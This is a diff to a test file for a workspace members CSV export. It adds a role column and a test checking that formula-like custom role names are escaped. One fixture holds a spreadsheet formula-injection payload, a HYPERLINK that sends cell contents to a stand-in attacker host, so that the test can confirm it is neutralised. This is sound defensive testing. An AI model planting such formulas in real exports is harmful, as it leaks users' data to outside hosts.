@@ -14,6 +14,7 @@ const SPEC_HEADER = [
   "name",
   "email",
   "access level",
+  "role",
   "status",
   "restrictions",
   "teams",
@@ -117,6 +118,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       "ليلى عبد الله",
       "layla@example.com",
       "agent",
+      "agent",
       "active",
       "see_team; no_snippets",
       "Alpha; فريق الدعم",
@@ -129,11 +131,12 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     ]);
     const evilRow = byEmail.get("evil@example.com")!;
     expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
-    expect(evilRow.slice(2, 5)).toEqual(["manager", "active", "no_export"]);
+    expect(evilRow.slice(2, 6)).toEqual(["manager", "manager", "active", "no_export"]);
     // The download itself counts as the Owner's activity (docs/PRODUCT.md, Presence), so "last active" is now.
-    expect(byEmail.get(owner.email)!.slice(0, 7)).toEqual([
+    expect(byEmail.get(owner.email)!.slice(0, 8)).toEqual([
       owner.name ?? "",
       owner.email,
+      "owner",
       "owner",
       "active",
       "",
@@ -141,12 +144,13 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       expect.stringMatching(ISO_UTC),
     ]);
     expect(byEmail.get("no.name@example.com")![0]).toBe("");
-    expect(byEmail.get("no.name@example.com")![6], "never active → empty").toBe("");
-    expect(byEmail.get("no.name@example.com")![10]).toBe("2027-01-31T22:59:59.999Z");
-    expect(byEmail.get("no.name@example.com")![11]).toBe("off");
+    expect(byEmail.get("no.name@example.com")![7], "never active → empty").toBe("");
+    expect(byEmail.get("no.name@example.com")![11]).toBe("2027-01-31T22:59:59.999Z");
+    expect(byEmail.get("no.name@example.com")![12]).toBe("off");
     expect(byEmail.get("pending@example.com")).toEqual([
       "",
       "pending@example.com",
+      "manager",
       "manager",
       "pending",
       "no_settings",
@@ -159,6 +163,37 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       "",
     ]);
     for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it("the role column names a custom role (members, deactivated members, invitations), neutralised; the level stays the base", async () => {
+    const ws = await createWorkspace();
+    const roleId = (
+      await t.db
+        .insertInto("workspace_roles")
+        .values({ workspace_id: ws.workspaceId, name: "=Supervisor", base: "manager", permissions: ["reports.view"] })
+        .returning("id")
+        .executeTakeFirstOrThrow()
+    ).id;
+    const sup = await createUser({ email: "sup@example.com" });
+    await addMember(ws, sup, "manager");
+    await t.db.updateTable("workspace_members").set({ role_id: roleId }).where("user_id", "=", sup.id).execute();
+    const inv = await insertInvitation(t.db, {
+      workspaceId: ws.workspaceId,
+      email: "inv@example.com",
+      role: "manager",
+      invitedBy: ws.ownerId,
+    });
+    await t.db.updateTable("invitations").set({ role_id: roleId }).where("id", "=", inv.id).execute();
+    await asUser(ws.ownerId);
+    const rows = parse((await download(ws.workspaceId)).text, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.email === "sup@example.com")).toMatchObject({
+      "access level": "manager",
+      role: "'=Supervisor",
+    });
+    expect(rows.find((r) => r.email === "inv@example.com")).toMatchObject({
+      "access level": "manager",
+      role: "'=Supervisor",
+    });
   });
 
   it("is refused (403) to a Manager restricted from data export, and works for one who is not", async () => {
